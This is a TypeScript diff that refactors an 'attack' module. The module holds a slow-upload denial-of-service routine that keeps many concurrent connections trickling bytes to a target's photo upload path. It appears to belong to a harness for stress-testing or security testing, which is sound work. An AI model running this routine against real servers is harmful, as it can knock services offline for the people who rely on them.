@@ -15,22 +15,18 @@ export const attack: SurfaceAttack = {
   async run(target, isOver) {
     const path = await pathOfPhotos(target);
     const client = new AttackClient(target);
-    const sendSlowly = async () => {
-      while (!isOver()) {
-        const upload = beginUpload(target, path, BYTES);
-        let isDone = false;
-        const status = statusOf(upload).finally(() => {
-          isDone = true;
-        });
-        for (let sent = 0; sent < BYTES && !isDone && !isOver(); sent += PIECE.length) {
-          upload.write(PIECE.subarray(0, BYTES - sent));
-          await pause(1000);
-        }
-        if (isOver()) upload.destroy();
-        client.count(await status);
+    return client.repeatWith(CONNECTIONS, isOver, async () => {
+      const upload = beginUpload(target, path, BYTES);
+      let isDone = false;
+      const status = statusOf(upload).finally(() => {
+        isDone = true;
+      });
+      for (let sent = 0; sent < BYTES && !isDone && !isOver(); sent += PIECE.length) {
+        upload.write(PIECE.subarray(0, BYTES - sent));
+        await pause(1000);
       }
-    };
-    await Promise.all(Array.from({ length: CONNECTIONS }, sendSlowly));
-    return client.counts;
+      if (isOver()) upload.destroy();
+      client.count(await status);
+    });
   },
 };
